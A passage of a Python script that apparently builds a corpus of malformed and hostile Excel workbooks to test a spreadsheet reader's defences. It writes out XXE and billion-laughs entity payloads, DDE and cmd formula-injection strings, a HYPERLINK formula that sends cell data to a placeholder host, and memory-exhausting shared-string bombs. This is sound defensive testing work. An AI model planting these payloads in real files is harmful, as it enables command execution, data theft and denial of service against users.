    book.edit(TABLES["KAK"].sheet, to_shared)


def _declare_xxe() -> None:
    cat = "XXE"
    kak = TABLES["KAK"]
    name_cell = first("KAK", "nama_kegiatan")

    def sheet_entity(kind: str, ent: str):
        def make(book: Book) -> None:
            book.edit(kak.sheet, lambda r: put_text(r, name_cell, "ENTITAS"))
            _xxe(book, book.part_of(kak.sheet), kind, ("ENTITAS", ent))
        return make
    add(cat, "sheet-entitas-berkas", sheet_entity("file", "&xxe;"))
    add(cat, "sheet-entitas-parameter", sheet_entity("param", ""))
    add(cat, "sheet-billion-laughs", sheet_entity("lol", "&l9;"))
    add(cat, "sharedstrings-entitas-berkas", lambda bk: _shared_strings_xxe(bk, "file"))
    add(cat, "sharedstrings-billion-laughs", lambda bk: _shared_strings_xxe(bk, "lol"))
    for part in ("xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml",
                 "xl/_rels/workbook.xml.rels", "_rels/.rels", "docProps/core.xml"):
        add(cat, f"entitas-{part}", lambda bk, p=part: _xxe(bk, p, "file", ""))
    add(cat, "temuan-entitas-berkas",
        lambda bk: _xxe(bk, bk.part_of(TEMUAN), "file", ""))
    add(cat, "profil-entitas-berkas",
        lambda bk: _xxe(bk, bk.part_of(PROFIL.sheet), "file", ""))
    add(cat, "xinclude",
        lambda bk: bk.edit(kak.sheet, lambda r: r.find(N + "sheetData").addprevious(
            etree.fromstring(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                             f'href="{(CORPUS_ROOT / XXE_FILE).as_uri()}" parse="text"/>'))))


INJECTIONS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "\t=1+1",
              "\r=1+1", "＝1+1", '=WEBSERVICE("http://contoh.invalid")', "=DDE(\"cmd\")"]


def _declare_injection() -> None:
    cat = "injeksi rumus"
    targets = [("KAK", "kode_kegiatan"), ("KAK", "nama_kegiatan"), ("Peserta", "nama"),
               ("RAB", "uraian"), ("Sentra", "nama_sentra"), ("Peserta", "nik"),
               ("KAK", "lokasi"), ("Narasumber", "nama"), ("Jadwal", "uraian"),
               ("KAK", "menu")]
    for i, text in enumerate(INJECTIONS):
        key, field = targets[i % len(targets)]
        t = TABLES[key]
        if field not in {c.key for c in t.columns}:
            field = next(c.key for c in t.columns if c.type == "text")
        add(cat, f"{key}.{field}-{i}", _cell_edit(t.sheet, put_text, first(key, field), text))
    add(cat, "nama-sheet-rumus", lambda bk: _rename_sheet(bk, TABLES["RAB"].sheet,
                                                           '=cmd|"x"!A1'))
    add(cat, "profil-kab-kota", _cell_edit(PROFIL.sheet, put_text, PROFIL.cell("kab_kota"),
                                          "=HYPERLINK(\"x\")"))


def _declare_macros_and_odd() -> None:
    cat = "makro"
    add(cat, "vba-sampah", lambda bk: bk.parts.__setitem__("xl/vbaProject.bin",
                                                            random.Random(7).randbytes(50_000)))
    add(cat, "vba-autoopen-palsu", lambda bk: bk.parts.__setitem__(
        "xl/vbaProject.bin", bk.parts["xl/vbaProject.bin"].replace(b"Attribute", b"AutoOpen!", 3)))
    add(cat, "customui-rusak", lambda bk: bk.parts.__setitem__("customUI/customUI14.xml",
                                                                b"<customUI"))
    cat = "xml aneh"
    add(cat, "baris-dan-sel-tanpa-r", _strip_refs)
    add(cat, "ref-huruf-kecil", lambda bk: _sub_sheet(bk, "KAK", r'<c r="([A-Z]+)(\d+)"',
                                                     lambda m: f'<c r="{m[1].lower()}{m[2]}"'))
    add(cat, "gaya-di-luar-jangkauan", lambda bk: _sub_sheet(bk, "Peserta", r' s="\d+"',
                                                            lambda m: ' s="99999"'))
    add(cat, "gaya-bukan-angka", lambda bk: _sub_sheet(bk, "KAK", r' s="\d+"',
                                                      lambda m: ' s="x"', 5))
    add(cat, "awalan-namespace-x", _prefix_namespace)
    add(cat, "tanggal-tipe-d", _cell_edit(TABLES["KAK"].sheet, lambda r, ref: (
        put_number(r, ref, "2023-08-17T00:00:00"), cell(r, ref).set("t", "d")),
        first("KAK", "tanggal_mulai")))
    add(cat, "boolean-tipe-b", _cell_edit(TABLES["KAK"].sheet, lambda r, ref: (
        put_number(r, ref, "1"), cell(r, ref).set("t", "b")), first("KAK", "luar_daerah")))
    add(cat, "sst-indeks-di-luar", _cell_edit(TABLES["KAK"].sheet, lambda r, ref: (
        put_number(r, ref, "999"), cell(r, ref).set("t", "s")), first("KAK", "nama_kegiatan")))
    add(cat, "angka-tidak-sah", _cell_edit(TABLES["KAK"].sheet, put_number, first("KAK", "jpl"),
                                          "abc"))
    add(cat, "angka-inf", _cell_edit(TABLES["RAB"].sheet, put_number,
                                    first("RAB", "harga_satuan"), "INF"))
    add(cat, "sel-ganda", _duplicate_cell)
    add(cat, "baris-customFormat-false", lambda bk: _sub_sheet(  # as LibreOffice writes
        bk, "KAK", r'<row r="(\d+)"', lambda m: f'<row r="{m[1]}" customFormat="false"'))
    add(cat, "baris-tak-urut", _unsorted_rows)
    add(cat, "dimensi-aneh", lambda bk: _sub_sheet(bk, "KAK", r'<dimension ref="[^"]*"/>',
                                                  lambda m: '<dimension ref="A0:ZZZZ9"/>'))
    cat = "temuan rusak"
    temuan_col = len(LAYOUT.outputs["Temuan"].columns) or 8
    for label, token in (("token-sampah", "zzz"), ("gaya-besar", "s=999999;c=FF0000"),
                         ("gaya-negatif", "s=-1;c="), ("warna-aneh", "c=#GGHHII")):
        add(cat, label, lambda bk, tok=token: _register_junk(bk, tok, temuan_col))
    add(cat, "isi-acak", lambda bk: bk.edit(TEMUAN, lambda r: [
        put_text(r, f"{column_letter(c)}{row}", "sampah") for row in range(1, 40)
        for c in range(1, 14)]))


def _sub_sheet(book: Book, key: str, pattern: str, repl, count: int = 0) -> None:
    part = book.part_of(TABLES[key].sheet if key in TABLES else key)
    book.set_text(part, re.sub(pattern, repl, book.text(part), count=count))


def _strip_refs(book: Book) -> None:
    """ECMA-376 allows rows and cells without r (the reader must count them)."""
    for key in ("Sentra", "Pendamping"):
        _sub_sheet(book, key, r'(<(?:row|c)) r="[^"]*"', lambda m: m[1])


def _prefix_namespace(book: Book) -> None:
    part = book.part_of(TABLES["Sentra"].sheet)
    root = etree.fromstring(book.parts[part])
    text = etree.tostring(root).decode()
    text = text.replace(f'xmlns="{NS}"', f'xmlns:x="{NS}"', 1)
    text = re.sub(r"<(/?)(?!x:)([A-Za-z]+)([\s>/])", r"<\1x:\2\3", text)
    book.set_text(part, text)


def _duplicate_cell(book: Book) -> None:
    def dup(root):
        c = cell(root, first("KAK", "nama_kegiatan"))
        c.addnext(etree.fromstring(etree.tostring(c)))
    book.edit(TABLES["KAK"].sheet, dup)


def _unsorted_rows(book: Book) -> None:
    def flip(root):
        data = root.find(N + "sheetData")
        rows = list(data)
        for r in rows:
            data.remove(r)
        data.extend(reversed(rows))
    book.edit(TABLES["Peserta"].sheet, flip)


def _register_junk(book: Book, token: str, cols: int) -> None:
    def edit(root):
        for row in range(10, 20):
            for c in range(1, cols + 4):
                put_text(root, f"{column_letter(c)}{row}", token)
    book.edit(TEMUAN, edit)


# 14. Columns inserted, deleted or typed over next to the status column ------------------
STATUS_HEADER = "Status Periksa"  # the template's header of the status column


def _shift_cols(text: str, at: int, by: int) -> str:
    """Every cell reference in `text` (a ref, a range, a space-separated sqref) with its
    column moved by `by` when it is at or right of column `at`."""
    def one(m: re.Match) -> str:
        col = column_index(m[1])
        return f"{column_letter(col + by) if col >= at else m[1]}{m[2]}"
    return re.sub(r"\b([A-Z]{1,3})(\d+)\b", one, text)


def shift_columns(root, at: int, by: int = 1) -> None:
    """What Excel does to a sheet's XML when columns are inserted (by > 0) at column
    `at` or deleted (by < 0, the cells of the deleted columns removed first): cells,
    array/shared formula ranges, merges, validations, conditional formats, widths and
    the dimension follow. Formula texts are left as written (their cached values are
    what the reader reads)."""
    gone = range(at, at - by) if by < 0 else range(0)
    for row in root.find(N + "sheetData").iter(N + "row"):
        for c in list(row):
            r, col = split(c.get("r"))
            if col in gone:
                row.remove(c)
            elif col >= at:
                c.set("r", f"{column_letter(col + by)}{r}")
    for el in root.iter(N + "f", N + "mergeCell", N + "dimension"):
        if el.get("ref"):
            el.set("ref", _shift_cols(el.get("ref"), at, by))
    for el in root.iter(N + "conditionalFormatting", N + "dataValidation", N + "selection"):
        if el.get("sqref"):
            el.set("sqref", _shift_cols(el.get("sqref"), at, by))
    for col in list(root.iter(N + "col")):
        lo, hi = int(col.get("min")), int(col.get("max"))
        if gone and gone.start <= lo and hi < gone.stop:
            col.getparent().remove(col)
            continue
        col.set("min", str(lo + by if lo >= at else lo))
        col.set("max", str(hi + by if hi >= at else hi))


def _grow_table(book: Book, sheet: str, at: int, header: str) -> None:
    """The sheet's Excel table gains the column inserted inside it (as Excel does)."""
    part = book.part_of(sheet)
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    for target in re.findall(r'Target="([^"]+table[^"]+)"', book.parts.get(rels, b"").decode()):
        name = target.lstrip("/") if target.startswith("/") else "xl/" + target.replace("../", "")
        root = etree.fromstring(book.parts[name])
        a, b = root.get("ref").split(":")
        if column_index(re.match(r"[A-Z]+", b)[0]) + 1 < at:
            continue
        root.set("ref", f"{a}:{_shift_cols(b, at, 1)}")
        for auto in root.iter(N + "autoFilter"):
            auto.set("ref", root.get("ref"))
        columns = root.find(N + "tableColumns")
        ids = [int(c.get("id")) for c in columns]
        new = etree.Element(N + "tableColumn", id=str(max(ids) + 1), name=header)
        columns.insert(at - column_index(re.match(r"[A-Z]+", a)[0]), new)
        columns.set("count", str(len(columns)))
        book.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8",
                                          standalone=True)


def insert_column(book: Book, key: str, at: int, header: str, values: Callable) -> None:
    """Column `at` of table `key`'s sheet inserted with `header` and `values(row)` in
    every filled row (the rows holding the table's first column)."""
    t = TABLES[key]
    first_col = t.columns[0].letter

    def edit(root) -> None:
        filled = [n for n, row in rows_of(root).items() if n >= t.first_row
                  and any(c.get("r") == f"{first_col}{n}" for c in row)]
        shift_columns(root, at, 1)
        put_text(root, f"{column_letter(at)}{t.header_row}", header)
        for n in filled:
            put_text(root, f"{column_letter(at)}{n}", values(n))
    book.edit(t.sheet, edit)
    _grow_table(book, t.sheet, at, header)


def _over_status(book: Book, key: str, header: str) -> None:
    """The status column's header typed over and a note typed in every filled row (the
    status formula replaced by the user's own text)."""
    t = TABLES[key]
    status = len(t.columns) + 1

    def edit(root) -> None:
        filled = [n for n, row in rows_of(root).items() if n >= t.first_row
                  and any(c.get("r") == f"{t.columns[0].letter}{n}" for c in row)]
        put_text(root, f"{column_letter(status)}{t.header_row}", header)
        for n in filled:
            put_text(root, f"{column_letter(status)}{n}", f"catatan baris {n}")
    book.edit(t.sheet, edit)


def _declare_status_column() -> None:
    cat = "kolom disisipkan"
    with_status = [k for k, t in TABLES.items() if t.status]
    for key in with_status:
        t = TABLES[key]
        middle = t.columns[len(t.columns) // 2].index
        add(cat, f"kolom-baru-di-tengah-{key}",
            lambda bk, k=key, at=middle: insert_column(bk, k, at, "No. HP",
                                                       lambda n: f"0812{n:08d}"))
        status = len(t.columns) + 1
        add(cat, f"keterangan-di-posisi-status-{key}",
            lambda bk, k=key, at=status: insert_column(
                bk, k, at, "Keterangan", lambda n: f"catatan baris {n}"))
        add(cat, f"judul-status-ditimpa-{key}",
            lambda bk, k=key: _over_status(bk, k, "Keterangan"))
    peserta = TABLES["Peserta"]
    add(cat, "no-hp-setelah-nik-Peserta",
        lambda bk: insert_column(bk, "Peserta", peserta.column("nik").index + 1, "No. HP",
                                 lambda n: f"0812{n:08d}"))
    add(cat, "kolom-terakhir-dihapus-Peserta",
        lambda bk: bk.edit(peserta.sheet, lambda r: shift_columns(
            r, len(peserta.columns), -1)))
    add(cat, "dua-judul-status-Peserta",
        lambda bk: bk.edit(peserta.sheet, lambda r: put_text(
            r, f"{column_letter(len(peserta.columns) + 3)}{peserta.header_row}",
            STATUS_HEADER)))
    add(cat, "kolom-disisipkan-di-semua-tabel", lambda bk: [
        insert_column(bk, k, 2, "Kolom Saya", lambda n: f"isi {n}") for k in with_status])


# 15. Limits: every way a file can make the reader allocate -------------------------------
def _far_row(book: Book, key: str, row: int, cells: bytes, count: int) -> None:
    """A row `row` of `count` cells written without `r` (the reader places them)."""
    part = book.part_of(TABLES[key].sheet if key in TABLES else key)
    book.parts[part] = book.parts[part].replace(
        b"</sheetData>", f'<row r="{row}">'.encode() + cells * count + b"</row></sheetData>", 1)


def _shared_string_bomb(book: Book, length: int, cells: int) -> None:
    """One shared string of `length` characters behind `cells` cells: a few MB of file,
    `length` x `cells` characters once every cell holds its own copy."""
    sst = (f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{NS}" count="{cells}" '
           f'uniqueCount="1"><si><t>' + "x" * length + "</t></si></sst>").encode()
    book.parts["xl/sharedStrings.xml"] = sst
    if b"sharedStrings" not in book.parts["[Content_Types].xml"]:
        book.set_text("[Content_Types].xml", book.text("[Content_Types].xml").replace(
            "</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
        book.set_text("xl/_rels/workbook.xml.rels", book.text(
            "xl/_rels/workbook.xml.rels").replace(
            "</Relationships>", '<Relationship Id="rIdSst" Type="http://schemas.openxml'
            'formats.org/officeDocument/2006/relationships/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>'))
    rows = b"".join(f'<row r="{n}"><c r="Z{n}" t="s"><v>0</v></c></row>'.encode()
                    for n in range(5000, 5000 + cells))
    part = book.part_of(TABLES["Sentra"].sheet)
    book.parts[part] = book.parts[part].replace(b"</sheetData>", rows + b"</sheetData>", 1)


def _repeated_notes(book: Book, rows: int, text: str) -> None:
    """A genuine sheet of the same long note in every row: it deflates well over 100x."""
    part = book.part_of(TABLES["Jadwal"].sheet)
    t = TABLES["Jadwal"]
    col = column_letter(len(t.columns) + 3)
    extra = b"".join(
        f'<row r="{n}"><c r="{col}{n}" t="inlineStr"><is><t>{text}</t></is></c></row>'.encode()
        for n in range(t.last_row + 10, t.last_row + 10 + rows))
    book.parts[part] = book.parts[part].replace(b"</sheetData>", extra + b"</sheetData>", 1)


def _declare_limits() -> None:
    cat = "batas memori"
    value = b"<c><v>1</v></c>"
    add(cat, "baris-1048576-16384-sel-tanpa-r",
        lambda bk: _far_row(bk, "Sentra", 1_048_576, value, 16_384), expect="refused")
    add(cat, "baris-1048576-16384-sel-kosong-tanpa-r",
        lambda bk: _far_row(bk, "Sentra", 1_048_576, b"<c/>", 16_384), expect="refused")
    add(cat, "satu-sel-tanpa-r-di-baris-1048576-KAK",
        lambda bk: _far_row(bk, "KAK", 1_048_576, value, 1), expect="refused")
    add(cat, "100-sel-tanpa-r-di-baris-1048576-KAK",
        lambda bk: _far_row(bk, "KAK", 1_048_576, value, 100), expect="refused")
    add(cat, "baris-tanpa-r-setelah-baris-1048575", _row_after_far_row, expect="refused")
    add(cat, "sel-berawalan-tanpa-r-jauh", _prefixed_far, expect="refused")
    add(cat, "16384-kolom-tanpa-r-di-baris-biasa",
        lambda bk: _far_row(bk, "Sentra", TABLES["Sentra"].last_row + 1, value, 16_384))
    add(cat, "dimensi-A1-XFD1048576", lambda bk: _sub_sheet(
        bk, "KAK", r'<dimension ref="[^"]*"/>', lambda m: '<dimension ref="A1:XFD1048576"/>'))
    add(cat, "teks-bersama-1MB-x-5000-sel",
        lambda bk: _shared_string_bomb(bk, 1_000_000, 5000), expect="refused")
    add(cat, "teks-bersama-30rb-x-200-sel",  # 6 MB materialised: fine
        lambda bk: _shared_string_bomb(bk, 30_000, 200))
    add(cat, "rasio-tinggi-buku-kerja-asli",  # over 100x, as SheetJS large_strings (121x)
        lambda bk: _repeated_notes(bk, 10_000, "Catatan rapat koordinasi pelaksanaan "
                                   "kegiatan sentra IKM " * 50))


def _row_after_far_row(book: Book) -> None:
    """A row without `r` after row 1,048,575: it is row 1,048,576."""
    _far_row(book, "Sentra", 1_048_575, b"<c><v>1</v></c>", 1)
    _far_row(book, "Sentra", 0, b"", 0)  # placeholder row replaced below
    part = book.part_of(TABLES["Sentra"].sheet)
    book.parts[part] = book.parts[part].replace(
        b'<row r="0"></row>', b"<row>" + b"<c><v>2</v></c>" * 20 + b"</row>", 1)


def _prefixed_far(book: Book) -> None:
    """Prefixed row and cell elements without `r`, the cell far away."""
    part = book.part_of(TABLES["Sentra"].sheet)
    root = etree.fromstring(book.parts[part])
    text = etree.tostring(root).decode().replace(f'xmlns="{NS}"', f'xmlns:x="{NS}"', 1)
    text = re.sub(r"<(/?)(?!x:)([A-Za-z]+)([\s>/])", r"<\1x:\2\3", text)
    text = text.replace("</x:sheetData>", '<x:row r="1048576">' + "<x:c><x:v>1</x:v></x:c>"
                        * 50 + "</x:row></x:sheetData>")
    book.set_text(part, text)


# 16. Optional parts empty or absent, as other programs write them ----------------------
STYLES_EMPTY = f'<?xml version="1.0" encoding="UTF-8"?>\n<styleSheet xmlns="{NS}"/>'


def _styles_without(book: Book, *tags: str) -> None:
    root = etree.fromstring(book.parts["xl/styles.xml"])
    for tag in tags:
        for el in root.findall(N + tag):
            root.remove(el)
    book.parts["xl/styles.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _styles_emptied(book: Book, *tags: str) -> None:
    root = etree.fromstring(book.parts["xl/styles.xml"])
    for tag in tags:
        for el in root.findall(N + tag):
            for child in list(el):
                el.remove(child)
            el.set("count", "0")
    book.parts["xl/styles.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _styles_prefixed(book: Book) -> None:
    """The whole styles part under a namespace prefix (calamine's nonstandard-xml-ns-prefix)."""
    text = book.text("xl/styles.xml").replace(f'xmlns="{NS}"', f'xmlns:x="{NS}"', 1)
    text = re.sub(r"<(/?)(?!x:|\?)([A-Za-z]+)([\s>/])", r"<\1x:\2\3", text)
    book.set_text("xl/styles.xml", text)


def _declare_optional_parts() -> None:
    cat = "bagian opsional kosong"
    add(cat, "styles-kosong", lambda bk: bk.set_text("xl/styles.xml", STYLES_EMPTY))
    add(cat, "styles-tanpa-cellXfs", lambda bk: _styles_without(bk, "cellXfs"))
    add(cat, "styles-cellXfs-nol", lambda bk: _styles_emptied(bk, "cellXfs"))
    add(cat, "styles-tanpa-fonts-fills-borders",
        lambda bk: _styles_without(bk, "fonts", "fills", "borders"))
    add(cat, "styles-semua-daftar-nol", lambda bk: _styles_emptied(
        bk, "numFmts", "fonts", "fills", "borders", "cellStyleXfs", "cellXfs", "cellStyles",
        "dxfs"))
    add(cat, "styles-berawalan-x", _styles_prefixed)
    add(cat, "sharedstrings-kosong", lambda bk: bk.parts.__setitem__(
        "xl/sharedStrings.xml", f'<sst xmlns="{NS}" count="0" uniqueCount="0"/>'.encode()))
    add(cat, "tema-kosong", lambda bk: [bk.parts.__setitem__(n, b"") for n in list(bk.parts)
                                        if n.startswith("xl/theme/")])
    add(cat, "rels-sheet-kosong", lambda bk: [
        bk.parts.__setitem__(n, f'<Relationships xmlns="{NS_PR}"/>'.encode())
        for n in list(bk.parts) if n.startswith("xl/worksheets/_rels/")])
    add(cat, "docprops-kosong", lambda bk: [bk.parts.__setitem__(n, b"") for n in list(bk.parts)
                                            if n.startswith("docProps/")])


# 17. Foreign workbooks and other formats ------------------------------------------------
FOREIGN_SHEET = (f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{NS}"><sheetData>'
                 + "".join(f'<row r="{r}">' + "".join(
                     f'<c r="{column_letter(c)}{r}" t="inlineStr"><is><t>data {r}-{c}</t></is></c>'
                     for c in range(1, 9)) + "</row>" for r in range(1, 121))
                 + "</sheetData></worksheet>")


def _foreign(book: Book, names: tuple[str, ...]) -> None:
    """The template's package with its sheets replaced by other sheets of other names
    (a real workbook of another kind: VBA, styles and all, but none of our sheets)."""
    text = book.text("xl/workbook.xml")
    sheets = re.findall(r"<sheet [^>]*/>", text)
    for i, tag in enumerate(sheets):
        new = re.sub(r'name="[^"]*"', f'name="{names[i % len(names)]} {i + 1}"', tag)
        text = text.replace(tag, new, 1)
    book.set_text("xl/workbook.xml", text)
    for part in set(book.sheet_parts.values()):
        book.parts[part] = FOREIGN_SHEET.encode()


STRICT = {"http://schemas.openxmlformats.org/spreadsheetml/2006/main":
          "http://purl.oclc.org/ooxml/spreadsheetml/main",
          "http://schemas.openxmlformats.org/officeDocument/2006/relationships":
          "http://purl.oclc.org/ooxml/officeDocument/relationships"}


def _strict(book: Book) -> None:
    """The template saved as Strict Open XML: the same parts in the Strict namespaces."""
    for name, data in list(book.parts.items()):
        if name.endswith((".xml", ".rels")):
            for old, new in STRICT.items():
                data = data.replace(old.encode(), new.encode())
            book.parts[name] = data


def _xlsb(data: bytes) -> bytes:
    """A zip laid out as an Excel Binary Workbook (xl/workbook.bin, no workbook.xml)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"/>')
        zf.writestr("xl/workbook.bin", b"\x83\x01\x00" * 10)
    return buf.getvalue()


def _ods(data: bytes) -> bytes:
    """A zip laid out as an OpenDocument spreadsheet (mimetype first, stored)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", '<office:document-content xmlns:office="urn:oasis:names:'
                    'tc:opendocument:xmlns:office:1.0"/>')
    return buf.getvalue()


def _declare_foreign() -> None:
    cat = "bukan templat"
    add(cat, "buku-kerja-lain", lambda bk: _foreign(bk, ("Sheet",)), expect="refused")
    add(cat, "satu-sheet-templat-saja", _one_template_sheet, expect="refused")
    add(cat, "strict-ooxml", _strict, expect="refused")
    add(cat, "xlsb", _xlsb, raw=True, expect="refused", suffix=".xlsb")
    add(cat, "ods", _ods, raw=True, expect="refused", suffix=".ods")
    add(cat, "docx", lambda data: _docx(), raw=True, expect="refused", suffix=".xlsx")


def _one_template_sheet(book: Book) -> None:
    """A foreign workbook that happens to have a sheet named 'Profil'."""
    _foreign(book, ("Data",))
    text = book.text("xl/workbook.xml")
    first = re.search(r'<sheet [^>]*name="([^"]*)"', text)[1]
    book.set_text("xl/workbook.xml", text.replace(f'name="{first}"', f'name="{PROFIL.sheet}"', 1))


def _docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document xmlns:w='urn:x'/>")
    return buf.getvalue()


# 18. Where the output goes, and inputs that are not plain files --------------------------
def _declare_outputs() -> None:
    cat = "keluaran"
    same = lambda bk: None
    for run in ("folder-hilang", "folder-tak-bisa-ditulis", "nama-300-bita", "akhiran-xlsx",
                "keluaran-berupa-folder"):
        add(cat, run, same, expect="refused", run=run)
    add(cat, "in-place-lewat-symlink", same, run="symlink-in-place")
    add(cat, "nama-245-karakter", same, run="nama-245")
    add(cat, "pipa-bernama", same, expect="refused", run="fifo")


# ---------------------------------------------------------------- declaring everything
_declare_damaged()
_declare_broken()
_declare_sheets()
_declare_headers()
_declare_merges()
_declare_values()
_declare_formulas()
_declare_size()
_declare_bombs()
_declare_xxe()
_declare_injection()
_declare_macros_and_odd()
_declare_status_column()
_declare_limits()
_declare_optional_parts()
_declare_foreign()
_declare_outputs()

ENCRYPTED = [Case("terenkripsi", "kata-sandi-msoffcrypto", None, suffix=".xlsm"),
             Case("terenkripsi", "wadah-ole-tanpa-isi", None, suffix=".xlsm"),
             Case("terenkripsi", "xls-lama-dari-libreoffice", None, suffix=".xls")]
LIBREOFFICE = [Case("disimpan LibreOffice", name, None, suffix=".xlsx") for name in (
    "sampel", "tukar-kolom-KAK", "teks-di-angka", "galat-excel", "injeksi-rumus")]
LO_SOURCES = {"tukar-kolom-KAK": "judul kolom/tukar-kolom-KAK",
              "teks-di-angka": "teks di sel angka/RAB.harga_satuan",
              "galat-excel": "galat Excel/#REF!-profil-pagu",
              "injeksi-rumus": "injeksi rumus/KAK.kode_kegiatan-0"}


# ---------------------------------------------------------------- building the corpus
def source_key() -> str:
    """Changes when the product, its layout/packs or this file change."""
    h = hashlib.sha256()
    files = sorted((ROOT / "xlplugin").rglob("*.py")) + sorted((ROOT / "xlplugin").rglob("*.toml"))
    files += sorted(p for p in (ROOT / "workbook_templates").rglob("*") if p.is_file())
    files += [Path(__file__)]
    for p in files:
        h.update(p.relative_to(ROOT).as_posix().encode())
        h.update(p.read_bytes())
    return h.hexdigest()[:16]


def base_workbook() -> Path:
    """The sample workbook through the real template build, built once per source key.

    A failing build fails the corpus: no earlier build stands in for it."""
    folder = CORPUS_ROOT / "base"
    path = folder / f"sampel-{source_key()}.xlsm"
    if path.exists():
        return path
    from xlplugin.sample import sample_dokumen
    from xlplugin.template.build import build_template

    folder.mkdir(parents=True, exist_ok=True)
    earlier = list(folder.glob("sampel-*.xlsm"))
    build_template(sample_dokumen(), folder / ".sampel.tmp.xlsm")
    (folder / ".sampel.tmp.xlsm").replace(path)
    for old in earlier:
        old.unlink()
    return path


def corpus_dir(base: Path) -> Path:
    """Cases are keyed by the sample's bytes and this file: a rebuild that changes
    nothing in the workbook keeps them."""
    h = hashlib.sha256(base.read_bytes())
    h.update(Path(__file__).read_bytes())
    return CORPUS_ROOT / f"cases-{h.hexdigest()[:16]}"


def all_cases() -> list[Case]:
    """Every declared case, the ones per part included (their list needs the sample)."""
    with zipfile.ZipFile(base_workbook()) as zf:
        names = [i.filename for i in zf.infolist()]
    parts = [Case("bagian hilang", f"hapus-{n}", lambda b, n=n: b.parts.pop(n)) for n in names]
    return CASES + parts + ENCRYPTED + LIBREOFFICE


def build_corpus(soffice: bool = True) -> tuple[Path, list[tuple[Case, Path]]]:
    """Write every case's file (reusing the cache); returns (base, [(case, path)])."""
    base = base_workbook()
    (CORPUS_ROOT / XXE_FILE).write_text(SECRET_MARKER + "\n")
    data = base.read_bytes()
    cases_dir = corpus_dir(base)
    for old in CORPUS_ROOT.glob("cases-*"):
        if old != cases_dir:
            shutil.rmtree(old, ignore_errors=True)
    cases_dir.mkdir(exist_ok=True)
    out = []
    for c in all_cases():
        path = cases_dir / c.file_name()
        if c.make is not None and not path.exists():
            path.write_bytes(_make(c, data))
        out.append((c, path))
    _encrypted(data, cases_dir)
    if soffice:
        _libreoffice(cases_dir, base, {c.id: p for c, p in out})
    return base, [(c, p) for c, p in out if p.exists()]


def _make(c: Case, data: bytes) -> bytes:
    if c.raw:
        return c.make(data)
    book = Book(data)
    c.make(book)
    return book.to_bytes()


def _encrypted(data: bytes, folder: Path) -> None:
    by_name = {c.name: folder / c.file_name() for c in ENCRYPTED}
    path = by_name["kata-sandi-msoffcrypto"]
    if not path.exists():
        from msoffcrypto.format.ooxml import OOXMLFile

        buf = io.BytesIO()
        OOXMLFile(io.BytesIO(data)).encrypt("rahasia123", buf)
        path.write_bytes(buf.getvalue())
    path = by_name["wadah-ole-tanpa-isi"]
    if not path.exists():  # an OLE compound file header and nothing behind it
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))


def _libreoffice(folder: Path, base: Path, made: dict[str, Path]) -> None:
    """Files saved by LibreOffice: one soffice call converts every source at once."""
    wanted = [c for c in LIBREOFFICE if not (folder / c.file_name()).exists()]
    xls = next(c for c in ENCRYPTED if c.suffix == ".xls")
    need_xls = not (folder / xls.file_name()).exists()
    soffice = shutil.which("soffice")
    if not (wanted or need_xls) or soffice is None:
        return
    work = folder.parent / "lo-work"
    shutil.rmtree(work, ignore_errors=True)
    src = work / "src"
    src.mkdir(parents=True)
    names = {}
    for c in wanted:
        origin = made[LO_SOURCES[c.name]] if c.name in LO_SOURCES else base
        target = src / f"{c.name}.xlsm"
        shutil.copy2(origin, target)
        names[target.stem] = folder / c.file_name()
    profile = (work / "profile").as_uri()
    cmd = [soffice, f"-env:UserInstallation={profile}", "--headless", "--norestore"]
    sources = sorted(str(p) for p in src.glob("*.xlsm"))
    if sources:
        subprocess.run(cmd + ["--convert-to", "xlsx", "--outdir", str(work / "out")] + sources,
                       capture_output=True, timeout=240, check=False)
        for produced in (work / "out").glob("*.xlsx"):
            produced.replace(names[produced.stem])
    if need_xls:
        shutil.copy2(base, src / "lama.xlsm")
        subprocess.run(cmd + ["--convert-to", "xls", "--outdir", str(work / "xls"),
                              str(src / "lama.xlsm")], capture_output=True, timeout=240,
                       check=False)
        produced = work / "xls" / "lama.xls"
        if produced.exists():
            produced.replace(folder / xls.file_name())
    shutil.rmtree(work, ignore_errors=True)


def build_corpus_apart(soffice: bool = True) -> tuple[Path, list[tuple[Case, Path]]]:
    """`build_corpus` with the files made in a process of its own: making the bombs
    takes hundreds of MB, and a process forked from a large parent starts at the
    parent's size (its peak memory would be the parent's, not its own)."""
    subprocess.run([sys.executable, str(Path(__file__))] + ([] if soffice else ["--no-soffice"]),
                   check=True, cwd=ROOT, stdout=subprocess.DEVNULL)
    return build_corpus(soffice)


if __name__ == "__main__":
    import time

    t0 = time.perf_counter()
    base, made = build_corpus("--no-soffice" not in sys.argv)
    print(f"{len(made)} kasus dari {base} ({time.perf_counter() - t0:.1f} s)")
